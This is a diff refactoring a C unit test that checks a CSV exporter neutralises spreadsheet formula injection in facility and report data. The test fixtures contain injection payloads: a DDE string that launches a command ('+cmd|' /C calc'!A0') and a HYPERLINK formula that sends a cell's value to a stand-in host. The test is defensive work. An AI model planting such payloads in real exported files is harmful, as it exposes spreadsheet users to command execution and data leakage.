@@ -18,17 +18,11 @@
 #include <cmocka.h>
 
 #include "db/db.h"
+#include "fixture.h"
 #include "model/csvio.h"
 #include "model/refdata.h"
 #include "testutil.h"
 #include "util/buf.h"
-
-#define FH                                                                                         \
-	"code,tax_code,name,sector,admin_unit,address,lat,lon,ownership,size,employees,"           \
-	"opened_year,closed_year,status\n"
-#define RH                                                                                         \
-	"facility_code,year,status,cp_aware,cp_staff,cp_unit,cp_applied,line,item,product,month,"  \
-	"quantity,unit,cost_vnd\n"
 
 /* The four names of the issue, as stored. */
 #define HYPERLINK "=HYPERLINK(\"http://x/?\"&A1,\"click\")"
@@ -84,42 +78,6 @@ test_put_field(void **state)
 	}
 }
 
-/* A fresh database with the reference data. */
-static struct db *
-fresh(const char *name)
-{
-	char err[512];
-	struct db *db = tu_db_new(name);
-	if (refdata_load(db, err, sizeof(err)) != 0)
-		fail_msg("refdata_load: %s", err);
-	return db;
-}
-
-static void
-import_text(struct db *db, enum csvio_kind kind, const char *name, const char *text)
-{
-	struct buf errs;
-	buf_init(&errs, 1 << 16);
-	FILE *f = fopen(tu_write_file(name, text), "rb");
-	assert_non_null(f);
-	int rc = csvio_import(db, kind, f, name, NULL, csvio_err_buf, &errs, NULL);
-	fclose(f);
-	if (rc != 0)
-		fail_msg("import %s: %s", name, buf_str(&errs));
-	buf_free(&errs);
-}
-
-static char *
-export_text(struct db *db, enum csvio_kind kind)
-{
-	char *s = NULL, err[256];
-	size_t n = 0;
-	FILE *f = open_memstream(&s, &n);
-	assert_int_equal(csvio_export(db, kind, f, 0, err, sizeof(err)), 0);
-	fclose(f);
-	return s;
-}
-
 /* Asserts the text a literal query gives on database name. */
 static void
 stored(const char *name, const char *sql, const char *want)
@@ -135,33 +93,33 @@ stored(const char *name, const char *sql, const char *want)
  * apostrophe written doubled (import drops one).  lon -0.25 is a number.
  */
 static const char fac_in[] =
-    FH "G1,,+cmd|' /C calc'!A0,1020,rach-gia,-10+20,10.5,-0.25,private,small,,,,active\n"
-       "-F9,,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1020,rach-gia,@SUM(1),,,"
-       "private,small,,,,active\n"
-       "G2,,''Hai' và Ba,1020,rach-gia,,,,private,small,,,,active\n";
+    FX_FH "G1,,+cmd|' /C calc'!A0,1020,rach-gia,-10+20,10.5,-0.25,private,small,,,,active\n"
+	  "-F9,,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1020,rach-gia,@SUM(1),,,"
+	  "private,small,,,,active\n"
+	  "G2,,''Hai' và Ba,1020,rach-gia,,,,private,small,,,,active\n";
 
 /* By code, bytes: '-' (0x2d) before 'G'. */
 static const char fac_out[] =
-    FH "'-F9,,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1020,rach-gia,'@SUM(1),,,"
-       "private,small,,,,active\n"
-       "G1,,'+cmd|' /C calc'!A0,1020,rach-gia,'-10+20,10.5,-0.25,private,small,,,,active\n"
-       "G2,,''Hai' và Ba,1020,rach-gia,,,,private,small,,,,active\n";
+    FX_FH "'-F9,,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1020,rach-gia,'@SUM(1),,,"
+	  "private,small,,,,active\n"
+	  "G1,,'+cmd|' /C calc'!A0,1020,rach-gia,'-10+20,10.5,-0.25,private,small,,,,active\n"
+	  "G2,,''Hai' và Ba,1020,rach-gia,,,,private,small,,,,active\n";
 
 static const char rep_in[] =
-    RH "-F9,2023,draft,,,,,material,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,,1,t,\n"
-       "-F9,2023,draft,,,,,material,+cmd|' /C calc'!A0,,,2,t,\n"
-       "-F9,2023,draft,,,,,material,@SUM(1),,,3,kg,\n"
-       "-F9,2023,draft,,,,,material,-10+20,,,4,t,\n"
-       "-F9,2023,draft,,,,,material,''Tám,,,5,t,\n";
+    FX_RH "-F9,2023,draft,,,,,material,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,,1,t,\n"
+	  "-F9,2023,draft,,,,,material,+cmd|' /C calc'!A0,,,2,t,\n"
+	  "-F9,2023,draft,,,,,material,@SUM(1),,,3,kg,\n"
+	  "-F9,2023,draft,,,,,material,-10+20,,,4,t,\n"
+	  "-F9,2023,draft,,,,,material,''Tám,,,5,t,\n";
 
 /* Materials by name, bytes: ' (0x27) + (0x2b) - (0x2d) = (0x3d) @ (0x40). */
 static const char rep_out[] =
-    RH "'-F9,2023,draft,,,,,material,''Tám,,,5,t,\n"
-       "'-F9,2023,draft,,,,,material,'+cmd|' /C calc'!A0,,,2,t,\n"
-       "'-F9,2023,draft,,,,,material,'-10+20,,,4,t,\n"
-       "'-F9,2023,draft,,,,,material,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,,1,"
-       "t,\n"
-       "'-F9,2023,draft,,,,,material,'@SUM(1),,,3,kg,\n";
+    FX_RH "'-F9,2023,draft,,,,,material,''Tám,,,5,t,\n"
+	  "'-F9,2023,draft,,,,,material,'+cmd|' /C calc'!A0,,,2,t,\n"
+	  "'-F9,2023,draft,,,,,material,'-10+20,,,4,t,\n"
+	  "'-F9,2023,draft,,,,,material,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,,1,"
+	  "t,\n"
+	  "'-F9,2023,draft,,,,,material,'@SUM(1),,,3,kg,\n";
 
 /* The stored names of database name, as the files above mean them. */
 static void
@@ -187,33 +145,27 @@ static void
 test_export_import_export(void **state)
 {
 	(void)state;
-	struct db *a = fresh("guard_a.db");
-	import_text(a, CSVIO_FACILITIES, "f.csv", fac_in);
-	import_text(a, CSVIO_REPORTS, "r.csv", rep_in);
+	struct db *a = fx_db_new("guard_a.db", NULL);
+	fx_import(a, CSVIO_FACILITIES, "f.csv", fac_in);
+	fx_import(a, CSVIO_REPORTS, "r.csv", rep_in);
 	assert_stored("guard_a.db");
-	char *f1 = export_text(a, CSVIO_FACILITIES);
-	char *r1 = export_text(a, CSVIO_REPORTS);
+	char *f1 = fx_export(a, CSVIO_FACILITIES, 0);
+	char *r1 = fx_export(a, CSVIO_REPORTS, 0);
 	assert_string_equal(f1, fac_out);
 	assert_string_equal(r1, rep_out);
 	db_close(a);
 
 	/* The export imports into a fresh database with the same names and
 	 * exports again byte for byte. */
-	struct db *b = fresh("guard_b.db");
-	import_text(b, CSVIO_FACILITIES, "f1.csv", f1);
-	import_text(b, CSVIO_REPORTS, "r1.csv", r1);
+	struct db *b = fx_db_new("guard_b.db", NULL);
+	fx_import(b, CSVIO_FACILITIES, "f1.csv", f1);
+	fx_import(b, CSVIO_REPORTS, "r1.csv", r1);
 	assert_stored("guard_b.db");
-	char *f2 = export_text(b, CSVIO_FACILITIES);
-	char *r2 = export_text(b, CSVIO_REPORTS);
-	assert_int_equal(strlen(f2), strlen(f1));
-	assert_memory_equal(f2, f1, strlen(f1));
-	assert_int_equal(strlen(r2), strlen(r1));
-	assert_memory_equal(r2, r1, strlen(r1));
+	fx_assert_export(b, CSVIO_FACILITIES, f1);
+	fx_assert_export(b, CSVIO_REPORTS, r1);
 	db_close(b);
 	free(f1);
 	free(r1);
-	free(f2);
-	free(r2);
 }
 
 /*
@@ -224,13 +176,13 @@ static void
 test_apostrophe_only_text(void **state)
 {
 	(void)state;
-	struct db *db = fresh("guard_c.db");
-	import_text(db, CSVIO_FACILITIES, "f.csv",
-		    FH "K1,,Kho,1020,rach-gia,,,,private,small,,,,active\n");
+	struct db *db = fx_db_new("guard_c.db", NULL);
+	fx_import(db, CSVIO_FACILITIES, "f.csv",
+		  FX_FH "K1,,Kho,1020,rach-gia,,,,private,small,,,,active\n");
 	struct buf errs;
 	buf_init(&errs, 1 << 16);
 	FILE *f =
-	    fopen(tu_write_file("q.csv", RH "K1,2023,draft,,,,,material,muối,,,'5,t,\n"), "rb");
+	    fopen(tu_write_file("q.csv", FX_RH "K1,2023,draft,,,,,material,muối,,,'5,t,\n"), "rb");
 	assert_non_null(f);
 	assert_int_equal(
 	    csvio_import(db, CSVIO_REPORTS, f, "q.csv", NULL, csvio_err_buf, &errs, NULL), 1);
